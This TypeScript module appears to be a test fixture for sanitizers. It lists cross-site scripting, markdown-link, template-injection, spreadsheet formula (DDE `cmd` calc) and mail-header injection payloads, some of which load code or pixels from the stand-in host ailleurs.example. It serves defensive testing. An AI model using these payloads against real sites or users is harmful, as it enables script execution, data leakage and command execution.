/**
 * What someone may type to make a page, a mail or a spreadsheet do something. Each calls `__ran`, or asks another host;
 * each element that it would make bears `x-try`, so that a page can be searched for it.
 */
const RUN = '__ran()';
const ELSEWHERE = '//ailleurs.example/';
const IMAGE = `<img x-try src=x onerror=${RUN}>`;
const SCRIPT = `<script x-try>${RUN}</script>`;

/** Markup as it is; written raw into a page, each of these would be found there. */
export const MARKUP: readonly string[] = [
  SCRIPT,
  `<ScRiPt x-try>${RUN}</ScRiPt>`,
  `<script/x-try>${RUN}</script>`,
  `<script x-try src=${ELSEWHERE}x.js></script>`,
  `<script x-try src="data:text/javascript,${RUN}"></script>`,
  `<script x-try type=module>${RUN}</script\n>`,
  `<<script x-try>${RUN}//<</script>`,
  `-->${SCRIPT}`,
  `]]>${SCRIPT}`,
  `</title>${SCRIPT}`,
  `</script>${SCRIPT}`,
  `</noscript>${SCRIPT}`,
  `</textarea>${SCRIPT}`,
  `</style>${SCRIPT}`,
  `</script>${IMAGE}`,
  `">${SCRIPT}`,
  IMAGE,
  `<img x-try src="x" onerror="alert(1);${RUN}"/>`,
  `<IMG X-TRY SRC=x ONERROR=${RUN}>`,
  `<img/x-try/src=x/onerror=${RUN}>`,
  `">${IMAGE}`,
  `'>${IMAGE}`,
  `\`>${IMAGE}`,
  `<img x-try src=${ELSEWHERE}pixel.png>`,
  `<img x-try srcset="${ELSEWHERE}pixel.png 1x">`,
  `<svg x-try onload=${RUN}>`,
  `'"><svg x-try onload=${RUN}>`,
  `<svg x-try><script>${RUN}</script></svg>`,
  `<svg x-try><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg x-try><set onbegin=${RUN} attributeName=x>`,
  `<svg x-try><a href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg x-try><use href="data:image/svg+xml,%3Csvg id=x%3E#x"></svg>`,
  `<svg x-try><image href=${ELSEWHERE}pixel.png></svg>`,
  `<svg x-try><foreignObject><iframe src=javascript:${RUN}></foreignObject></svg>`,
  `<math x-try href="javascript:${RUN}">x</math>`,
  `<math x-try><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<iframe x-try src="javascript:parent.${RUN}"></iframe>`,
  `<iframe x-try srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe x-try src=${ELSEWHERE}></iframe>`,
  `<object x-try data="javascript:${RUN}"></object>`,
  `<embed x-try src="javascript:${RUN}">`,
  `<link x-try rel=stylesheet href=${ELSEWHERE}x.css>`,
  `<link x-try rel=prefetch href=${ELSEWHERE}>`,
  `<style x-try>@import "${ELSEWHERE}x.css"</style>`,
  `<style x-try>*{background:url(${ELSEWHERE}x)}</style>`,
  `<base x-try href=${ELSEWHERE}>`,
  `<meta x-try http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta x-try http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form x-try action="javascript:${RUN}"><input type=submit>`,
  `<button x-try formaction=javascript:${RUN}>x</button>`,
  `<input x-try autofocus onfocus=${RUN}>`,
  `<select x-try autofocus onfocus=${RUN}></select>`,
  `<textarea x-try autofocus onfocus=${RUN}></textarea>`,
  `<details x-try open ontoggle=${RUN}>`,
  `<video x-try src=x onerror=${RUN}></video>`,
  `<video x-try><source onerror=${RUN}></video>`,
  `<audio x-try src=x onerror=${RUN}></audio>`,
  `<marquee x-try onstart=${RUN}>x</marquee>`,
  `<div x-try style="animation:x 1s" onanimationstart=${RUN}>x</div>`,
  `<div x-try style=position:fixed;inset:0 onpointerover=${RUN}>x</div>`,
  `<a x-try href="javascript:${RUN}">x</a>`,
  `<a x-try href="java&#x0A;script:${RUN}">x</a>`,
  `<a x-try href=${ELSEWHERE} ping=${ELSEWHERE}>x</a>`,
  `<dialog x-try open onclose=${RUN}>x</dialog>`,
  `<p x-try contenteditable oninput=${RUN}>x</p>`,
  `<essai x-try tabindex=1 autofocus onfocus=${RUN}></essai>`,
  `<b x-try accesskey=x onclick=${RUN}>x</b>`,
  `<plaintext x-try>`,
];

const ATTRIBUTES = [
  `" onmouseover="${RUN}" x-try="`,
  `' onmouseover='${RUN}' x-try='`,
  `\` onmouseover=\`${RUN}\` x-try=\``,
  `" autofocus onfocus=${RUN} x-try="`,
  `x" x-try style="background:url(${ELSEWHERE}x)`,
  `x onclick=${RUN} x-try`,
];

/** Written so that a filter, or a second reading, would make markup of them. */
const DISGUISED = [
  `&lt;img x-try src=x onerror=${RUN}&gt;`,
  `&#60;img x-try src=x onerror=${RUN}&#62;`,
  `&#x3c;img x-try src=x onerror=${RUN}&#x3e;`,
  `&amp;lt;img x-try src=x onerror=${RUN}&amp;gt;`,
  `%3Cimg x-try src=x onerror=${RUN}%3E`,
  `%253Cimg x-try src=x onerror=${RUN}%253E`,
  `\\u003cimg x-try src=x onerror=${RUN}\\u003e`,
  `\\x3cimg x-try src=x onerror=${RUN}\\x3e`,
  `＜img x-try src=x onerror=${RUN}＞`,
  `<ſcript x-try>${RUN}</ſcript>`,
  `<scr<script>ipt x-try>${RUN}</scr</script>ipt>`,
  `<s\u200bcript x-try>${RUN}</s\u200bcript>`,
  `\u202e<img\u00a0x-try src=x onerror=${RUN}>`,
  `<!--<script x-try>`,
  `<!-->${SCRIPT}`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<template x-try>${SCRIPT}</template>`,
  `"},"@type":"Person","x":{"y":"`,
  '%essaim.plain% $& $1 $$',
  '{{constructor.constructor("__ran()")()}}',
  '${__ran()} #{__ran()} <%= __ran() %>',
  `{@html "${IMAGE.replace('>', '\\u003e')}"}`,
  '__proto__',
  'constructor',
];

const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java&#115;cript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](&#x01;javascript:${RUN})`,
  `[x](java\\script:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](data:text/html,%3Cscript%3E${RUN}%3C/script%3E)`,
  '[x](data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+)',
  `[x](vbscript:${RUN})`,
  '[x](file:///etc/passwd)',
  `![x](${ELSEWHERE}pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x](x" onerror="${RUN})`,
  `[x](/ "x" onmouseover="${RUN}")`,
  `[x](/ '" x-try onmouseover="${RUN}')`,
  `<javascript:${RUN}>`,
  `[x][1]\n\n[1]: javascript:${RUN}`,
  `[${IMAGE}](/)`,
  `**${IMAGE}**`,
  `\`${IMAGE}\``,
  `\`\`\`"x-try onmouseover=${RUN}">${IMAGE}\nx\n\`\`\``,
  `> # ${IMAGE}`,
  `| a |\n| - |\n| ${IMAGE} |`,
  `<div x-try\n\nonclick=${RUN}>`,
];

/** Formulas of spreadsheets, further lines of mails and calendars. */
const ELSEWHERE_THAN_PAGES = [
  `=HYPERLINK("https:${ELSEWHERE}","x")`,
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '＝1+1',
  '";=1+1;"',
  'x\r\nBcc: tous@ailleurs.example',
  'x%0d%0aBcc: tous@ailleurs.example',
  'x\u2028Bcc: tous@ailleurs.example',
  `x\r\n\r\n${IMAGE}`,
  '=?utf-8?q?x=0D=0ABcc:_tous@ailleurs.example?=',
  `x\r\nEND:VEVENT\r\nATTACH:javascript:${RUN}`,
  `javascript:${RUN}`,
];

export const SCRIPT_TRIES: readonly string[] = [
  ...MARKUP,
  ...ATTRIBUTES,
  ...DISGUISED,
  ...MARKDOWN,
  ...ELSEWHERE_THAN_PAGES,
];

/** Some of the tries for one of so many places, others than for the place before, from everywhere in the list; or all. */
export function triesFor(place: number, some: number | null, places: number): readonly string[] {
  if (some === null) return SCRIPT_TRIES;
  const step = Math.max(1, Math.floor(SCRIPT_TRIES.length / (some * places)));
  return Array.from({ length: some }, (_, one) => SCRIPT_TRIES[((place * some + one) * step) % SCRIPT_TRIES.length]!);
}
